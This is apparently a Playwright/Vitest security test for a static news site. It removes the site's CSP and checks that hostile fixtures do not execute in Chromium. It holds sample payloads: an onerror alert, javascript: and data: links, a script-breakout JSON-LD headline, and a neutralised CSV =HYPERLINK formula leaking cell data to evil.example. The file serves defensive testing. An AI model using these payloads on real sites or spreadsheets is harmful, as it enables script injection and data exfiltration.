/**
 * The hostile-input suite in Chromium, with the last line of defence taken
 * away: the shared edited build (which holds the hostile seeds and story of
 * tests/fixtures/hostile, so no build is added) is served without `_headers`
 * and with every CSP meta tag stripped from a copy of its pages. Reader
 * safety must not depend on the CSP: no page may run a script, open a
 * dialog, request another host, or hold a link or source that runs a
 * script, and no companies.csv may hand a spreadsheet a formula.
 */
import { cp, mkdir, mkdtemp, readdir, readFile, rm, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import path from 'node:path';
import type { Browser, Page } from 'playwright-core';
import { afterAll, beforeAll, describe, expect, test } from 'vitest';
import { connectChromium } from '../helpers/built-site-in-chromium';
import { formulaCells } from '../helpers/gates/formula-cells';
import { recordProblems, visit, type PageProblems } from '../helpers/gates/requests';
import { all, readPage } from '../helpers/html';
import { sitePages } from '../helpers/pages';
import { serveSite, type StaticSite } from '../helpers/serve';
import { SITE } from '../../src/site';
import { THEME_SCRIPT } from '../../src/lib/site/theme';
import { editedBuild, HOSTILE } from '../helpers/shared-builds';

/** The CSP meta tag every page carries (tests/gates/static-gates.test.ts), as Astro writes it. */
const CSP_META = /<meta http-equiv="content-security-policy" content="[^"]*">/g;

/** A page that would be an attack if a defence let one through: the control of the checks below. */
const PLANTED = {
  path: 'planted-attack/',
  html: [
    '<!doctype html><html lang="en"><head><meta charset="utf-8"><title>Planted</title></head><body><main>',
    '<img src="missing.png" alt="" onerror="alert(1)">',
    '<a href="javascript:alert(2)">a</a> <a href="data:text/html,x">b</a>',
    '<img src="https://tracker.example.com/pixel.png" alt="">',
    '</main></body></html>',
  ].join(''),
};

let root: string;
let pages: string[];
let browser: Browser;
let site: StaticSite;

beforeAll(async () => {
  const { outDir } = await editedBuild();
  root = await mkdtemp(path.join(tmpdir(), 'hostile-site-'));
  await cp(outDir, root, { recursive: true });
  await rm(path.join(root, '_headers'));
  pages = await sitePages(root);
  for (const page of pages) {
    const file = path.join(root, page.endsWith('.html') ? page : `${page}index.html`);
    const html = await readFile(file, 'utf8');
    // One tag a page: anything else means the pattern no longer matches what Astro writes.
    expect(html.match(CSP_META), page).toHaveLength(1);
    await writeFile(file, html.replace(CSP_META, ''));
  }
  await mkdir(path.join(root, PLANTED.path));
  await writeFile(path.join(root, PLANTED.path, 'index.html'), PLANTED.html);
  [browser, site] = await Promise.all([connectChromium(), serveSite(root, { headers: false })]);
});

afterAll(async () => {
  await browser?.close();
  await site?.close();
  if (root) await rm(root, { recursive: true, force: true });
});

/** What ran or was requested while a page loaded, and what the loaded page holds that could run a script. */
interface Visit {
  problems: PageProblems;
  /** Dialogs opened and console messages of any kind: the page's own scripts print nothing. */
  ran: string[];
  /** Elements that could run a script or load from another host, each as `tag attribute="value"`. */
  live: string[];
}

/** The tab every test below loads its pages in. */
interface RecordingTab {
  page: Page;
  /** Loads `pagePath` and says what ran, what was requested and what could run a script. */
  load: (pagePath: string) => Promise<Visit>;
}

let tab: Promise<RecordingTab> | undefined;

/**
 * A tab that records, for each page it loads, what ran and what was requested: one tab for
 * every page and test, so that a run of dozens of pages starts one renderer, not dozens.
 */
function sharedTab(): Promise<RecordingTab> {
  return (tab ??= openTab());
}

async function openTab(): Promise<RecordingTab> {
  const context = await browser.newContext();
  const problems = await recordProblems(context, site.origin);
  const page: Page = await context.newPage();
  const ran: string[] = [];
  page.on('dialog', (dialog) => {
    ran.push(`dialog ${dialog.type()}: ${dialog.message()}`);
    void dialog.dismiss();
  });
  page.on('console', (message) => ran.push(`console.${message.type()}: ${message.text()}`));
  const load = async (pagePath: string) => {
    // What the page before recorded has been checked: each visit starts empty.
    for (const list of [problems.external, problems.failed, problems.errors, ran]) list.length = 0;
    await visit(page, site.url + pagePath);
    const live = await liveElements(page);
    return { problems: structuredClone(problems), ran: [...ran], live };
  };
  return { page, load };
}

/** What the loaded page holds that could run a script or load from another host. */
function liveElements(page: Page): Promise<string[]> {
  return page.evaluate(
    ([themeScript, corrections]) => {
      const found: string[] = [];
      const show = (element: Element, name: string) =>
        `${element.tagName.toLowerCase()} ${name}="${element.getAttribute(name) ?? ''}"`;
      const selectors: [string, string][] = [
        ['a[href^="javascript:" i]', 'href'],
        ['a[href^="data:" i]', 'href'],
        ['[src^="data:" i]', 'src'],
      ];
      for (const [selector, name] of selectors) {
        for (const element of document.querySelectorAll(selector)) found.push(show(element, name));
      }
      // Whatever its spelling (entities, case, white space), a link that does not open a web page runs
      // something; the one exception is the site's own address for corrections.
      for (const link of document.querySelectorAll<HTMLAnchorElement>('a[href]')) {
        if (link.href === corrections) continue;
        if (link.protocol !== 'http:' && link.protocol !== 'https:') found.push(show(link, 'href'));
      }
      for (const element of document.querySelectorAll('[src], [srcset], [poster]')) {
        for (const name of ['src', 'srcset', 'poster']) {
          const value = element.getAttribute(name);
          if (value === null || !/^\s*([a-z][a-z\d+.-]*:)?[\\/]{2}/i.test(value)) continue;
          if (new URL(value.trim(), location.href).origin !== location.origin) found.push(show(element, name));
        }
      }
      for (const element of document.querySelectorAll(
        'iframe, frame, object, embed, base, meta[http-equiv="refresh" i]',
      )) {
        found.push(element.outerHTML.slice(0, 80));
      }
      for (const element of document.querySelectorAll('*')) {
        for (const name of element.getAttributeNames()) if (/^on/i.test(name)) found.push(show(element, name));
      }
      // The site's own scripts only: the theme script, the JSON-LD and the site's module files.
      for (const script of document.querySelectorAll('script')) {
        const own =
          script.type === 'application/ld+json' ||
          (script.type === 'module' && new URL(script.src).origin === location.origin) ||
          (script.type === '' && script.src === '' && script.textContent === themeScript);
        if (!own) found.push(`script ${script.src || (script.textContent ?? '').slice(0, 60)}`);
      }
      return [...new Set(found)];
    },
    [THEME_SCRIPT, `mailto:${SITE.corrections.email}`] as const,
  );
}

describe('without the CSP meta tag and without _headers', () => {
  test('the pages of the hostile seeds and story are among those loaded', () => {
    expect(pages).toEqual(
      expect.arrayContaining([
        `${HOSTILE.slug}/`,
        'script-alert-title-script-markup-in-a-title/',
        'links-and-markdown-in-a-seed-click-javascript-alert-1/',
        'invisible-characters-txt-exe-in-a-title/',
        'a-remarkably-long-headline-about-the-money-a-remarkably-long-headline-about-the/',
      ]),
    );
  });

  test('no page runs a script or opens a dialog, requests another host, or holds a live link or source', async () => {
    const { load } = await sharedTab();
    for (const pagePath of pages) {
      const { problems, ran, live } = await load(pagePath);
      expect(problems, pagePath).toEqual({ external: [], failed: [], errors: [] });
      expect(ran, pagePath).toEqual([]);
      expect(live, pagePath).toEqual([]);
    }
  });

  test('the same checks catch an attack that gets through: a script, live links and a request (control)', async () => {
    const { problems, ran, live } = await (await sharedTab()).load(PLANTED.path);
    expect(problems.external).toEqual(['https://tracker.example.com/pixel.png']);
    expect(ran.filter((event) => event.startsWith('dialog'))).toEqual(['dialog alert: 1']);
    expect(live).toEqual([
      'a href="javascript:alert(2)"',
      'a href="data:text/html,x"',
      'img src="https://tracker.example.com/pixel.png"',
      'img onerror="alert(1)"',
    ]);
  });

  test('the hostile story’s JSON-LD is read back whole by the browser', async () => {
    const { page, load } = await sharedTab();
    await load(`${HOSTILE.slug}/`);
    const headline = await page.evaluate(() => {
      const scripts = document.querySelectorAll('script[type="application/ld+json"]');
      const data = JSON.parse(scripts[0]?.textContent ?? '') as { '@graph': { headline: string }[] };
      return { count: scripts.length, headline: data['@graph'][0]?.headline };
    });
    expect(headline).toEqual({
      count: 1,
      headline: 'Hostile fixture: </script><script>alert("headline")</script>\u2028\u2029what the article gets wrong',
    });
  });
});

test('no companies.csv the site serves starts a formula in any cell', async () => {
  const stories = await readdir(path.join(root, 'data'));
  expect(stories).toContain(HOSTILE.slug);
  for (const story of stories) {
    const response = await fetch(`${site.url}data/${story}/companies.csv`);
    expect(response.status, story).toBe(200);
    const csv = await response.text();
    expect(formulaCells(csv), story).toEqual([]);
  }
  // Not a pass by default: the hostile story's file holds the formulas, neutralised.
  const hostile = await (await fetch(`${site.url}data/${HOSTILE.slug}/companies.csv`)).text();
  expect(hostile).toContain(`"'=HYPERLINK(""https://evil.example/?leak=""&A1,""Hostile Corp"")"`);
});

test('the copy served holds no CSP at all: no meta tag, no header', async () => {
  for (const page of pages) {
    const tree = await readPage(root, page.endsWith('.html') ? page : `${page}index.html`);
    const equivs = all(tree, 'meta[http-equiv]').map((meta) => String(meta.properties['httpEquiv']).toLowerCase());
    expect(equivs, page).not.toContain('content-security-policy');
  }
  const response = await fetch(site.url);
  expect(response.headers.get('content-security-policy')).toBeNull();
});
